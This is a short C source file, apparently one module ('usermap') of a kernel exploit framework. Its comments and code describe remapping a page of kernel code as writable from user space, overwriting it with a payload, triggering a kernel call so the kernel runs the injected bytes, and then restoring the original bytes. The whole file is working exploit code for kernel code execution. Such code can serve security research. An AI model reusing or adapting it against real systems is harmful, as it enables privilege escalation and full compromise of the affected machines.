// No pointer is touched: a page of kernel code is mapped a second time, writable for the program, and rewritten.
// The kernel then runs at its own address what a program wrote.
#include "exploit.h"

static int run(const struct vuln_leak *leak) {
    int window = vuln(VULN_MAP, leak->victim, 0);
    if (window < 0) return NOT_HERE;
    volatile unsigned char *victim = (void *)(window + (leak->victim & 0xfff));
    unsigned char original[sizeof moved_payload];
    for (size_t i = 0; i < sizeof original; i++) {
        original[i] = victim[i];
        victim[i] = moved_payload[i];
    }
    announce("usermap", window);
    int cs = vuln(VULN_CALL, 0, 1);
    for (size_t i = 0; i < sizeof original; i++) victim[i] = original[i];
    return cs;
}

const struct exploit exploit_usermap = {"usermap", run, 0};
